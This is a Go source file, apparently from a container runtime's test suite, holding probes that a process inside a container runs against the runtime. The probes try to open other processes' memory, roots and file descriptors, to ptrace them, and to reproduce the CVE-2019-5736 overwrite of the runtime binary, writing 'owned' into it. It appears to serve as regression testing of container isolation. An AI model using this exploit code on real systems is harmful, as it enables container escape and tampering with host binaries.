// This file holds the attacks on other processes: those of the runtime that can be seen from inside a container.
package test

import (
	"fmt"
	"os"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// stalk waits for processes that call themselves by this name, looks for a file of the host where they are, and tries to get hold of each: its memory, its files, its
// program. What is tried counts only if the process still has that name afterwards. With a further word one is enough.
func stalk(args []string) error {
	fmt.Println("begin")
	met := map[int]bool{}
	for {
		for _, pid := range others() {
			if met[pid] || !isCalled(pid, args[0]) {
				continue
			}
			if reached := within(pid, args[1]); reached != "" && isCalled(pid, args[0]) {
				fmt.Printf("%d host: reached by %s\n", pid, reached)
			}
			for what, try := range holds {
				if err := try(pid); isCalled(pid, args[0]) {
					fmt.Printf("%d %s: %s\n", pid, what, word(err))
				}
			}
			met[pid] = isCalled(pid, args[0])
			if met[pid] {
				fmt.Printf("%d met\n", pid)
			}
			if met[pid] && len(args) > 2 {
				return nil
			}
		}
	}
}

// holds are the ways to get hold of a process. All of them take what man 2 ptrace calls access mode checks.
var holds = map[string]func(pid int) error{
	"program": func(pid int) error { return opened(pid, "exe", unix.O_RDONLY) },
	"memory":  func(pid int) error { return opened(pid, "mem", unix.O_RDWR) },
	"root":    func(pid int) error { return opened(pid, "root/.", unix.O_RDONLY) },
	"directory": func(pid int) error {
		return opened(pid, "cwd/.", unix.O_RDONLY)
	},
	"files": func(pid int) error {
		_, err := os.Readlink(fmt.Sprintf("/proc/%d/fd/0", pid))
		return err
	},
	"trace": seize,
}

// within finds a file of the host below a process's root, its working directory or what it has open.
func within(pid int, path string) string {
	places := []string{"root", "cwd"}
	for fd := range 16 {
		places = append(places, fmt.Sprintf("fd/%d", fd))
	}
	for _, place := range places {
		if opened(pid, place+path, unix.O_RDONLY) == nil {
			return place
		}
	}
	return ""
}

// seize traces a process, and lets it go again.
func seize(pid int) error {
	runtime.LockOSThread() // who traces is a thread
	defer runtime.UnlockOSThread()
	for _, request := range []uintptr{unix.PTRACE_SEIZE, unix.PTRACE_INTERRUPT, unix.PTRACE_DETACH} {
		_, _, errno := unix.RawSyscall6(unix.SYS_PTRACE, request, uintptr(pid), 0, 0, 0, 0)
		switch {
		case request == unix.PTRACE_SEIZE && errno != 0:
			return errno
		case request == unix.PTRACE_INTERRUPT:
			unix.Wait4(pid, nil, unix.WALL, nil) // until it stops, or has ended
		}
	}
	return nil
}

func opened(pid int, name string, flags int) error {
	fd, err := unix.Open(fmt.Sprintf("/proc/%d/%s", pid, name), flags|unix.O_CLOEXEC, 0)
	if err == nil {
		unix.Close(fd)
	}
	return err
}

// overwrite waits for a process whose program is not the probe, keeps the program open, and once it is no longer executed
// writes to it: CVE-2019-5736. The words are marks of programs that are worth it: their names, or what stands at their end.
func overwrite(args []string) error {
	fmt.Println("begin")
	for {
		for _, pid := range others() {
			exe, err := unix.Open(fmt.Sprintf("/proc/%d/exe", pid), unix.O_RDONLY|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			i := slices.IndexFunc(args, func(mark string) bool { return contains(exe, mark) })
			if i < 0 {
				unix.Close(exe)
				continue
			}
			fmt.Println("opened", args[i])
			err = writeThrough(exe)
			fmt.Println("write:", word(err))
			unix.Close(exe)
		}
	}
}

// writeThrough opens a file anew by its descriptor, as soon as nobody executes it.
func writeThrough(fd int) error {
	for range 500 {
		again, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if err == unix.ETXTBSY {
			time.Sleep(time.Millisecond)
			continue
		}
		if err == nil {
			_, err = unix.Write(again, []byte("owned"))
			unix.Close(again)
		}
		return err
	}
	return unix.ETXTBSY
}

// contains looks for a mark in the name of a file, and in its last bytes.
func contains(fd int, mark string) bool {
	var st unix.Stat_t
	if unix.Fstat(fd, &st) != nil {
		return false
	}
	if name, err := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd)); err == nil && strings.HasPrefix(name, mark) {
		return true
	}
	end := make([]byte, min(st.Size, 4096))
	_, err := unix.Pread(fd, end, st.Size-int64(len(end)))
	return err == nil && strings.Contains(string(end), mark)
}

// others are the processes that are to be seen here, but this one and its threads.
func others() []int {
	dir, err := os.Open("/proc")
	if err != nil {
		return nil
	}
	defer dir.Close()
	names, err := dir.Readdirnames(-1)
	if err != nil {
		return nil
	}
	var pids []int
	for _, name := range names {
		if pid, err := strconv.Atoi(name); err == nil && pid != os.Getpid() {
			pids = append(pids, pid)
		}
	}
	return pids
}

func isCalled(pid int, name string) bool {
	line, err := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
	return err == nil && strings.HasPrefix(string(line), name+"\x00")
}
